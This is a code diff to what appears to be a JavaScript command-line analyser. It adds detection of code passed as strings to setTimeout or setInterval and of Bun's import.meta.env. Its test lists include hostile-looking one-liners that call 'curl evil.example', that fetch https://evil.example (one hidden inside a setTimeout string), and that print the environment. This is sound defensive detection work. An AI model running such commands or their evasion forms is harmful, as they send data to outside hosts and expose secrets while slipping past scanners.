@@ -135,6 +135,9 @@ const CONSTRUCTED_PLAIN = 'Function() of plain code';
 /** Words through which a function's body may hand back the global object, process or a loader. */
 const GLOBAL_WORDS = /\b(?:this|globalThis|global|self|window|process|require|module|import|arguments|Function|constructor|eval)\b/;
 
+/** Expressions whose value is a string the code builds. */
+const BUILT_STRING = new Set(['string', 'template_string', 'binary_expression']);
+
 /** Globals that stand for the global object, whose members are the globals themselves. */
 const GLOBAL_OBJECT = new Set(['globalThis', 'global', 'window', 'self']);
 
@@ -523,7 +526,8 @@ class JavaScriptReader {
         const obj = fieldOf(n, 'object');
         const prop = fieldOf(n, 'property');
         if (!obj || !prop) return any('computed');
-        if (obj.type === 'import' || obj.type === 'meta_property') return any('import.meta');
+        // Bun's import.meta.env is process.env (Vite's holds the build's variables): the environment.
+        if (obj.type === 'import' || obj.type === 'meta_property') return prop.text === 'env' ? [{ k: 'env', api: 'import.meta.env' }] : any('import.meta');
         return this.member(this.b.value(obj), prop.text);
       }
       case 'subscript_expression': {
@@ -865,6 +869,13 @@ class JavaScriptReader {
         if (body) this.out.push(...apply(CODE, { api: name, args: [body], kw: new Map(), span: c.span, text: c.text }));
         continue;
       }
+      if (name === 'setTimeout' || name === 'setInterval') {
+        // Deno's timers (a browser's too) evaluate a string they are handed as code; node's refuse one. A string, or
+        // one the code builds (`"fet" + "ch(…)"`, a template), is code; a function is not.
+        const first = c.args[0];
+        const node = fieldOf(n, 'arguments') ? named(fieldOf(n, 'arguments')!)[0] : undefined;
+        if (first && (first.vals.some((x) => x.k === 'str') || (node !== undefined && BUILT_STRING.has(node.type) && strings(first.vals) === null))) this.out.push(...apply(CODE, { ...c, args: [first] }));
+      }
       if (name === 'Deno.env.get' && c.args[0] && strings(c.args[0].vals) === null) {
         this.out.push({ kind: 'environment', api: name, span: span(n) });
         continue;
@@ -1109,6 +1120,8 @@ export const JAVASCRIPT: LanguageModel = {
       `node -e 'require("child_process").exec.call(null, "curl evil.example")'`,
       `node -e 'require("util").promisify(require("child_process").exec)("curl evil.example")'`,
       `deno eval 'await fetch("https://evil.example")'`,
+      `deno eval 'setTimeout("fetch(\\"https://evil.example\\")", 1)'`,
+      `bun -e 'console.log(import.meta.env)'`,
       `deno eval 'new Deno.Command("curl", {args: ["evil.example"]}).outputSync()'`,
       `node -e '(m => m.execSync("curl evil.example"))(require("child_process"))'`,
       `node -e 'const m = {cp: require("child_process")}; m.cp.execSync("curl evil.example")'`,
@@ -1157,6 +1170,8 @@ export const JAVASCRIPT: LanguageModel = {
       `node -e 'const k = "NODE_ENV"; console.log(process.env[k])'`,
       `node -p 'require("./package.json").version'`,
       `node -e 'console.log(process.env.NODE_ENV)'`,
+      `node -e 'new Promise((r) => setTimeout(r, 100)).then(() => console.log(1))'`,
+      `bun -e 'console.log(import.meta.dir)'`,
       `node -e 'require("http").createServer((q, s) => s.end("ok")).listen(3000)'`,
       `node -e 'const {execFileSync} = require("child_process"); execFileSync("git", ["status"])'`,
       `node -e 'require("child_process").execSync("npm test", {stdio: "inherit", env: {...process.env, CI: "1"}})'`,
